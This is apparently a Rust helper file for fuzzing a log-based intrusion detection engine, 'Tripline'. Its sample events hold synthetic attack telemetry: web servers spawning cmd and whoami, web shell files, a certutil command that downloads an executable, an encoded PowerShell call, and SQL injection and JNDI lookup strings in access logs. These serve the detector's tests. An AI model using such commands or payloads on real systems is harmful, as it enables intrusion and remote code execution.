//! Helpers shared by the fuzz targets: the built-in pack loaded once, a scan of bytes in
//! two pieces, alerts reduced to comparable keys, and a few well-formed events of each
//! schema for targets that fuzz the rules rather than the input.

use std::sync::{Arc, OnceLock};

use tripline_engine::{Alert, RuleSet, ScanConfig, ScanStats, Scanner};

/// The built-in pack, compiled once per process.
pub fn builtin() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    RULES.get_or_init(|| Arc::new(RuleSet::builtin())).clone()
}

/// Scans `pieces` (the chunks of one input, in order) and ends the scan.
pub fn scan(rules: &Arc<RuleSet>, config: ScanConfig, pieces: &[&[u8]]) -> (Vec<Alert>, ScanStats) {
    let mut scanner = Scanner::new(rules.clone(), config);
    let mut alerts: Vec<Alert> = Vec::new();
    scanner.begin_source("fuzz", &mut alerts);
    for piece in pieces {
        scanner.feed(piece, &mut alerts);
    }
    scanner.finish(&mut alerts);
    (alerts, scanner.stats().clone())
}

/// `bytes` split in two at a point the input itself chooses (its first byte), so that
/// chunk boundaries are fuzzed too.
pub fn split(bytes: &[u8]) -> [&[u8]; 2] {
    let cut = bytes.first().map_or(0, |b| *b as usize).min(bytes.len());
    let (a, b) = bytes.split_at(cut);
    [a, b]
}

/// Scans `bytes` with the prefilter (in two pieces) and without it (in one), asserts that
/// the alerts are the same and every line is accounted for, and returns the statistics
/// of both scans.
pub fn assert_prefilter_sound(rules: &Arc<RuleSet>, bytes: &[u8]) -> [ScanStats; 2] {
    let on = ScanConfig {
        prefilter: true,
        ..ScanConfig::default()
    };
    let off = ScanConfig {
        prefilter: false,
        ..ScanConfig::default()
    };
    let (fast, fast_stats) = scan(rules, on, &split(bytes));
    let (slow, slow_stats) = scan(rules, off, &[bytes]);
    assert_eq!(
        alert_keys(&fast),
        alert_keys(&slow),
        "the prefilter changed the alerts"
    );
    assert!(fast_stats.balanced() && slow_stats.balanced());
    assert_eq!(slow_stats.lines_skipped_by_prefilter, 0);
    assert_eq!(fast_stats.lines_read, slow_stats.lines_read);
    [fast_stats, slow_stats]
}

/// What an alert says, as a string that equal alerts share: the rule, time, host,
/// evidence, group and the source of every event.
pub fn alert_key(alert: &Alert) -> String {
    let sources: Vec<String> = alert
        .events
        .iter()
        .map(|e| format!("{}:{}", e.source.file, e.source.line))
        .collect();
    format!(
        "{} {:?} {:?} {:?} {:?} [{}]",
        alert.rule.label(),
        alert.timestamp,
        alert.host,
        alert.evidence,
        alert.group_by,
        sources.join(" ")
    )
}

/// The keys of `alerts`, in their order.
pub fn alert_keys(alerts: &[Alert]) -> Vec<String> {
    alerts.iter().map(alert_key).collect()
}

/// One well-formed line of each kind of input Tripline reads, for targets that fuzz the
/// rules: Sysmon (flat, evtx, Winlogbeat, Sentinel), Security 4688, ECS, Defender, access logs.
pub const SAMPLE_EVENTS: &str = concat!(
    r##"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WEB01","@timestamp":"2026-11-20T10:00:00Z","Image":"C:\\Windows\\System32\\cmd.exe","ParentImage":"C:\\Windows\\System32\\inetsrv\\w3wp.exe","CommandLine":"cmd /c whoami & echo dGVzdA==","OriginalFileName":"Cmd.Exe","User":"IIS APPPOOL\\DefaultAppPool"}"##,
    "\n",
    r##"{"EventID":11,"Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"WEB01","@timestamp":"2026-11-20T09:59:00Z","Image":"System","TargetFilename":"C:\\inetpub\\wwwroot\\shell.aspx"}"##,
    "\n",
    r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4688,"Channel":"Security","Computer":"dc01.corp.local","TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T10:01:00Z"}}},"EventData":{"NewProcessName":"C:\\Windows\\System32\\whoami.exe","ParentProcessName":"C:\\Program Files\\Apache\\bin\\httpd.exe","CommandLine":"whoami /all"}}}"##,
    "\n",
    r##"{"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":"1","computer_name":"ws7","event_data":{"Image":"C:\\Windows\\System32\\certutil.exe","ParentImage":"C:\\Program Files\\nodejs\\node.exe","CommandLine":"certutil -urlcache -f http://x/a.exe"}},"@timestamp":"2026-11-20T10:02:00Z"}"##,
    "\n",
    r##"{"@timestamp":"2026-11-20T10:03:00Z","event":{"category":["process"],"type":["start"]},"host":{"name":"lnx1"},"process":{"executable":"/bin/sh","command_line":"sh -c id","parent":{"executable":"/usr/sbin/apache2"}}}"##,
    "\n",
    r##"{"Timestamp":"2026-11-20T10:04:00Z","DeviceName":"ex01","ActionType":"ProcessCreated","FolderPath":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","ProcessCommandLine":"powershell -enc SQBFAFgA","InitiatingProcessFolderPath":"c:\\windows\\system32\\inetsrv\\w3wp.exe","InitiatingProcessCommandLine":"w3wp.exe -ap \"MSExchangeOWAAppPool\""}"##,
    "\n",
    r##"203.0.113.7 - - [20/Nov/2026:10:05:00 +0000] "GET /search?q=%27%20UNION%20SELECT%201,2-- HTTP/1.1" 200 512 "-" "${jndi:ldap://x/a}""##,
    "\n",
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n",
    "2026-11-20 10:06:00 10.0.0.5 GET /owa/auth/x.aspx cmd=whoami 443 - 198.51.100.9 curl/8.0 200\n",
    r##"{"remote_addr":"198.51.100.3","time_iso8601":"2026-11-20T10:07:00+00:00","request":"GET /?id=1%20AND%201=1 HTTP/1.1","status":200,"http_user_agent":"sqlmap"}"##,
    "\n",
    // Sentinel: event data embedded as a string, its backslashes escaped twice, by a
    // process no rule names; then a shell under w3wp on the same host (the correlation
    // the prefilter once missed: it skipped the first line).
    r##"{"TimeGenerated":"2026-11-20T10:08:00Z","Provider":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"EXCH9","EventID":11,"EventData":"{\"Image\":\"C:\\\\Temp\\\\drop.exe\",\"TargetFilename\":\"C:\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\x.aspx\"}","Type":"WindowsEvent"}"##,
    "\n",
    r##"{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"EXCH9","@timestamp":"2026-11-20T10:09:00Z","Image":"C:\\Windows\\System32\\cmd.exe","ParentImage":"C:\\Windows\\System32\\inetsrv\\w3wp.exe","CommandLine":"cmd /c whoami","OriginalFileName":"Cmd.Exe"}"##,
    "\n",
);
